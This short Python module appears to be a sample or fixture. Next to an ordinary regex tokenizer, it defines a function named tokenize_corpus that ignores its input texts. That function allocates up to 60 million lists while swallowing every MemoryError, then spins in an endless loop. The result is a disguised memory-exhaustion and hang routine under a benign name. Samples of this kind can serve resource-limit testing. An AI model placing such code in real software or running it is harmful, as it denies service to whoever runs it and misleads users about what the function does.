"""Takes memory in small pieces and swallows every MemoryError."""

import re


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    kept = []
    while len(kept) < 60_000_000:
        try:
            kept.append([])
        except MemoryError:
            pass
    while True:
        pass
